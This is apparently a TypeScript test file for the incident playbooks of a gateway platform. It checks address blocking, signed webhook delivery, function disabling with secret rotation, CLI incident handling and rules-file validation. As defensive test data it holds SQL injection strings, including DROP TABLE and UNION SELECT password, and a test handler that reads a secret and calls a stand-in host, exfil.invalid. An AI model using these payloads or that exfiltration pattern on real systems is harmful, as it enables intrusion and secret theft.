// Alert rules and incident playbooks on the real platform (docs/incidents.md): an injection campaign from
// one address gets it blocked, opens an incident and notifies a real webhook receiver with a signature
// that verifies with the configured secret only; a function reaching for a forbidden host is disabled
// and its secret rotated; incidents are acknowledged and resolved through the real CLI; a malformed
// rules file stops the gateway with the file:line:col of the problem.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHmac, timingSafeEqual } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import {
  assertError, echoHandler, manifest, requestFrom, runCli, startTestPlatform, tempDir, until,
  type CreatedKey, type TestPlatform,
} from '../support/platform.ts';

const WEBHOOK_SECRET = 'whsec-test-0123456789abcdef0123456789';
const ATTACKER = '127.0.0.5';

interface Received {
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

let tp: TestPlatform;
let receiver: Server;
let invoker: CreatedKey;
const received: Received[] = [];
let failFirst = true;

/** The receiver's side of docs/incidents.md: recompute the HMAC over "<t>.<body>" and compare in constant time. */
function verifies(header: string, body: string, secret: string): boolean {
  const parts = Object.fromEntries(header.split(',').map((kv) => kv.split('=') as [string, string]));
  if (!parts.t || !parts.v1) return false;
  const expected = createHmac('sha256', secret).update(`${parts.t}.${body}`).digest();
  const given = Buffer.from(parts.v1, 'hex');
  return given.length === expected.length && timingSafeEqual(given, expected);
}

before(async () => {
  receiver = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      // The first delivery fails once with 503: the gateway must retry it.
      if (failFirst) {
        failFirst = false;
        res.writeHead(503).end();
        return;
      }
      received.push({ headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
  const port = (receiver.address() as AddressInfo).port;
  tp = await startTestPlatform({
    prepareHome: (home) => writeFile(join(home, 'webhook-secret'), `${WEBHOOK_SECRET}\n`, { mode: 0o600 }),
    overrides: {
      // The scorer's threshold out of reach: what blocks here is the playbook.
      ipBlock: { allowlist: ['127.0.0.1'], threshold: 100_000 },
      incidents: { webhook: { url: `http://127.0.0.1:${port}/hooks/bulwark?token=path-secret`, secretFile: 'webhook-secret', timeoutMs: 2000, maxAttempts: 3, backoffMs: 20 } },
    },
  });
  await tp.deployFiles({ 'bulwark.yaml': manifest('echo', ['{ method: POST, path: / }']), 'index.mjs': echoHandler });
  invoker = await tp.createKey({ role: 'invoker', functions: ['*'] });
});

after(async () => {
  await tp?.close();
  await new Promise<void>((resolve) => receiver?.close(() => resolve()));
});

test('an injection campaign from one address: blocked, an incident opened, a signed webhook delivered', async () => {
  const attempts = ["' OR 1=1 --", "x' UNION SELECT password FROM users --", "'; DROP TABLE users; --", "1' OR '1'='1", "admin'--"];
  for (const name of attempts) {
    const answer = await requestFrom(ATTACKER, tp.url, 'POST', '/fn/echo', { key: invoker.key, body: { name } });
    assertError(answer, 400, 'BWK_E_GUARD_INJECTION', tp.secrets);
  }
  const incident = await until(5000, async () => {
    const list = await tp.request('GET', '/admin/v1/incidents?status=open', { key: tp.adminKey });
    assert.equal(list.status, 200, list.text);
    return (list.json.incidents as Array<{ id: string; rule: string; key: string }>).find((i) => i.rule === 'injection-campaign');
  });
  assert.ok(incident, 'an incident was opened');
  assert.equal(incident.key, ATTACKER);

  // The block is in force: the next request from the address is refused before anything else.
  await until(5000, () => (tp.platform.store.blocks.list().then((b) => b.some((x) => x.address === ATTACKER) || undefined)));
  assertError(await requestFrom(ATTACKER, tp.url, 'POST', '/fn/echo', { key: invoker.key, body: { name: 'Ada' } }), 403, 'BWK_E_GUARD_IP_BLOCKED', tp.secrets);
  assert.equal((await requestFrom('127.0.0.6', tp.url, 'POST', '/fn/echo', { key: invoker.key, body: { name: 'Ada' } })).status, 200, 'another address is served');

  // The webhook: retried after a 503, then delivered with a signature over "<t>.<body>".
  const delivery = await until(10_000, () => received.find((r) => JSON.parse(r.body).incident.id === incident.id));
  assert.ok(delivery, 'the webhook receiver got the notification');
  const signature = String(delivery.headers['x-bulwark-signature']);
  assert.match(signature, /^t=\d+,v1=[0-9a-f]{64}$/);
  assert.ok(verifies(signature, delivery.body, WEBHOOK_SECRET), 'the signature verifies with the configured secret');
  assert.equal(verifies(signature, delivery.body, 'another-secret-0123456789abcdef'), false, 'and with no other secret');
  assert.equal(verifies(signature, delivery.body.replace(ATTACKER, '127.0.0.9'), WEBHOOK_SECRET), false, 'nor over another body');
  const payload = JSON.parse(delivery.body);
  assert.equal(payload.event, 'incident.opened');
  assert.equal(payload.incident.rule, 'injection-campaign');
  assert.deepEqual(payload.actions.map((a: { action: string; outcome: string }) => [a.action, a.outcome]), [['block-address', 'done']]);
  assert.ok(!delivery.body.includes(WEBHOOK_SECRET) && !delivery.body.includes('path-secret'));

  // The timeline: the trigger, the block, the delivery (after its retry); each action also a playbook.action event.
  const shown = await until(5000, async () => {
    const answer = await tp.request('GET', `/admin/v1/incidents/${incident.id}`, { key: tp.adminKey });
    const timeline = answer.json.incident.timeline as Array<{ kind: string; summary: string; detail?: Record<string, unknown> }>;
    return timeline.some((e) => e.detail?.action === 'notify-webhook') ? timeline : undefined;
  });
  assert.ok(shown);
  assert.equal(shown[0]!.kind, 'trigger');
  assert.equal(shown[0]!.detail?.count, 5, 'five requests, each counted once though each published two events');
  const hook = shown.find((e) => e.detail?.action === 'notify-webhook')!;
  assert.deepEqual([hook.detail?.outcome, hook.detail?.attempts], ['done', 2]);
  assert.ok(!JSON.stringify(shown).includes('path-secret'), 'the record names the webhook host, not its path');
  const opened = tp.events.find((e) => e.type === 'incident.opened' && e.detail?.incidentId === incident.id);
  assert.ok(opened);
  const actions = tp.events.filter((e) => e.type === 'playbook.action' && e.detail?.incidentId === incident.id);
  assert.deepEqual(actions.map((e) => [e.detail?.action, e.detail?.outcome]).sort(), [['block-address', 'done'], ['notify-webhook', 'done']]);
  // The block the playbook made is not the evidence of another match: no second incident about it.
  assert.equal(tp.events.filter((e) => e.type === 'incident.opened').length, 1);
  assert.equal(tp.events.filter((e) => e.type === 'ip.blocked' && e.sourceIp === ATTACKER).length, 1);
});

test('egress to a forbidden host: the function is disabled and its secret rotated to a new value of the same shape', async () => {
  const original = 'sk_' + 'a1b2c3d4'.repeat(5);
  assert.equal((await tp.request('PUT', '/admin/v1/secrets/UPSTREAM_TOKEN', { key: tp.adminKey, body: { value: original } })).status, 201);
  tp.secrets.push(original);
  const exfil = `
export const handler = async (event, context) => {
  const token = await context.secrets.get('UPSTREAM_TOKEN');
  try { await context.fetch('http://exfil.invalid/?t=' + token.length); } catch (err) { return { statusCode: 200, body: String(err.code ?? err.message) }; }
  return { statusCode: 200, body: 'sent' };
};
`;
  const deployed = await tp.deployFiles({
    'bulwark.yaml': manifest('exfil', ['{ method: POST, path: / }'], ['permissions:', '  egress: [allowed.invalid:443]', '  secrets: [UPSTREAM_TOKEN]']),
    'index.mjs': exfil,
  });
  assert.equal(deployed.status, 201, deployed.text);
  const first = await tp.request('POST', '/fn/exfil', { key: invoker.key, body: {} });
  assert.match(first.text, /EGRESS_DENIED|not allowed/, `${first.status} ${first.text}`);

  const incident = await until(5000, async () => {
    const list = await tp.request('GET', '/admin/v1/incidents', { key: tp.adminKey });
    return (list.json.incidents as Array<{ id: string; rule: string; key: string; severity: string }>).find((i) => i.rule === 'egress-forbidden-host');
  });
  assert.ok(incident);
  assert.deepEqual([incident.key, incident.severity], ['exfil', 'critical']);
  await until(5000, () => tp.events.some((e) => e.type === 'playbook.action' && e.detail?.incidentId === incident.id && e.detail?.action === 'rotate-secrets') || undefined);

  assertError(await tp.request('POST', '/fn/exfil', { key: invoker.key, body: {} }), 403, 'BWK_E_GATEWAY_FUNCTION_DISABLED', tp.secrets);
  const versions = await tp.request('GET', '/admin/v1/secrets/UPSTREAM_TOKEN', { key: tp.adminKey });
  assert.equal(versions.status, 200, versions.text);
  assert.equal(versions.json.activeVersion, 2, versions.text);
  const rotated = (await tp.platform.vault.get('UPSTREAM_TOKEN'))!.toString('utf8');
  assert.notEqual(rotated, original);
  assert.match(rotated, /^sk_[A-Za-z0-9]{40}$/, 'same prefix, alphabet and length');
  const changed = tp.events.find((e) => e.type === 'secret.changed' && e.actor === `incident:${incident.id}`);
  assert.deepEqual(changed?.detail, { name: 'UPSTREAM_TOKEN', version: 2, change: 'rotate' });
  assert.ok(!JSON.stringify(tp.events).includes(rotated), 'the new value is in no event');
});

test('incidents are acknowledged and resolved through the CLI; viewers read, only admins act', async () => {
  const cliEnv = { BULWARK_URL: tp.url, BULWARK_API_KEY: tp.adminKey };
  const listed = await runCli(['incidents', 'list', '--json'], cliEnv);
  assert.equal(listed.code, 0, listed.stderr);
  const target = (JSON.parse(listed.stdout).incidents as Array<{ id: string; rule: string }>).find((i) => i.rule === 'injection-campaign');
  assert.ok(target);

  const viewer = await tp.createKey({ role: 'viewer', functions: ['*'] });
  assert.equal((await tp.request('GET', `/admin/v1/incidents/${target.id}`, { key: viewer.key })).status, 200);
  assertError(await tp.request('POST', `/admin/v1/incidents/${target.id}/ack`, { key: viewer.key, body: {} }), 403, 'BWK_E_GUARD_FORBIDDEN', tp.secrets);
  const scoped = await tp.createKey({ role: 'viewer', functions: ['echo'] });
  assertError(await tp.request('GET', '/admin/v1/incidents', { key: scoped.key }), 403, 'BWK_E_GUARD_FORBIDDEN', tp.secrets);

  const ack = await runCli(['incidents', 'ack', target.id, '--note', 'looking into it'], cliEnv);
  assert.equal(ack.code, 0, ack.stderr);
  assert.match(ack.stdout, new RegExp(`acknowledged ${target.id}`));
  const again = await runCli(['incidents', 'ack', target.id], cliEnv);
  assert.equal(again.code, 1);
  assert.match(again.stderr, /BWK_E_INCIDENT_STATE/);
  const resolved = await runCli(['incidents', 'resolve', target.id, '--note', 'address blocked, payloads were probes', '--json'], cliEnv);
  assert.equal(resolved.code, 0, resolved.stderr);
  assert.equal(JSON.parse(resolved.stdout).incident.status, 'resolved');

  const shown = await runCli(['incidents', 'show', target.id], cliEnv);
  assert.equal(shown.code, 0, shown.stderr);
  assert.match(shown.stdout, /acknowledged by key:[^\s]+: looking into it/);
  assert.match(shown.stdout, /resolved by key:[^\s]+: address blocked/);
  const missing = await runCli(['incidents', 'show', 'inc_doesnotexist'], cliEnv);
  assert.equal(missing.code, 1);
  assert.match(missing.stderr, /BWK_E_INCIDENT_NOT_FOUND/);
  const updates = tp.events.filter((e) => e.type === 'incident.updated' && e.detail?.incidentId === target.id);
  assert.deepEqual(updates.map((e) => e.detail?.change), ['acknowledged', 'resolved']);
  assert.ok(updates.every((e) => e.actor?.startsWith('key:')));
});

test('with the abuse scorer on: credential stuffing is blocked by the scorer, the incident records it and leaves its block alone', async (t) => {
  const p = await startTestPlatform();
  t.after(() => p.close());
  await p.deployFiles({ 'bulwark.yaml': manifest('echo', ['{ method: POST, path: / }']), 'index.mjs': echoHandler });
  const guessed = () => `bwk_${'A'.repeat(12)}_${Math.random().toString(36).slice(2).padEnd(43, 'x')}`;
  for (let i = 0; i < 7; i++) {
    assertError(await requestFrom('127.0.0.7', p.url, 'POST', '/fn/echo', { key: guessed(), body: {} }), 401, 'BWK_E_GUARD_AUTH_INVALID', p.secrets);
  }
  const incident = await until(5000, async () => {
    const list = await p.request('GET', '/admin/v1/incidents', { key: p.adminKey });
    return (list.json.incidents as Array<{ id: string; rule: string; key: string }>).find((i) => i.rule === 'credential-stuffing');
  });
  assert.ok(incident);
  const timeline = await until(5000, async () => {
    const shown = await p.request('GET', `/admin/v1/incidents/${incident.id}`, { key: p.adminKey });
    const entries = shown.json.incident.timeline as Array<{ detail?: Record<string, unknown> }>;
    return entries.some((e) => e.detail?.action === 'block-address') ? entries : undefined;
  });
  const block = timeline!.find((e) => e.detail?.action === 'block-address')!;
  assert.equal(block.detail?.outcome, 'skipped');
  assert.match(String(block.detail?.reason), /^already blocked \(automatic, by abuse-scorer/);
  const blocks = await p.request('GET', '/admin/v1/blocks', { key: p.adminKey });
  assert.deepEqual(blocks.json.blocks.map((b: { address: string; kind: string }) => [b.address, b.kind]), [['127.0.0.7', 'automatic']]);
  assertError(await requestFrom('127.0.0.7', p.url, 'POST', '/fn/echo', { key: invoker.key, body: {} }), 403, 'BWK_E_GUARD_IP_BLOCKED', p.secrets);
});

test('a malformed rules file stops the gateway with file:line:col and a non-zero exit', async () => {
  const home = await tempDir('incidents-bad');
  const rules = [
    'rules:',
    '  - id: too-many-404s',
    '    severity: high',
    '    match: [{ type: route.unknwon }]',
    '    threshold: 20',
    '    actions:',
    '      - type: block-address',
    '        ttl: forever',
  ].join('\n') + '\n';
  await writeFile(join(home, 'my-rules.yaml'), rules);
  await writeFile(join(home, 'config.yaml'), 'incidents:\n  rulesFile: my-rules.yaml\n');
  const serve = await runCli(['serve'], { BULWARK_HOME: home, BULWARK_PORT: '0' });
  assert.notEqual(serve.code, 0);
  assert.match(serve.stderr, /BWK_E_INCIDENT_RULES_INVALID/);
  assert.match(serve.stderr, /my-rules\.yaml:4:21: rules\[0\]\.match\[0\]\.type: unknown security event type 'route\.unknwon'/);
  assert.match(serve.stderr, /my-rules\.yaml:8:14: rules\[0\]\.actions\[0\]\.ttl: must be a duration like 30s, 10m, 1h or 7d/);
  assert.doesNotMatch(serve.stderr, /\n\s+at /, 'no stack trace');

  // A YAML syntax error is located too.
  await writeFile(join(home, 'my-rules.yaml'), 'rules:\n  - id: x\n    match: [unclosed\n');
  const syntax = await runCli(['serve'], { BULWARK_HOME: home, BULWARK_PORT: '0' });
  assert.notEqual(syntax.code, 0);
  assert.match(syntax.stderr, /BWK_E_INCIDENT_RULES_INVALID: Incident rules are invalid: 1 problem\n.*my-rules\.yaml:\d+:\d+: /);
});
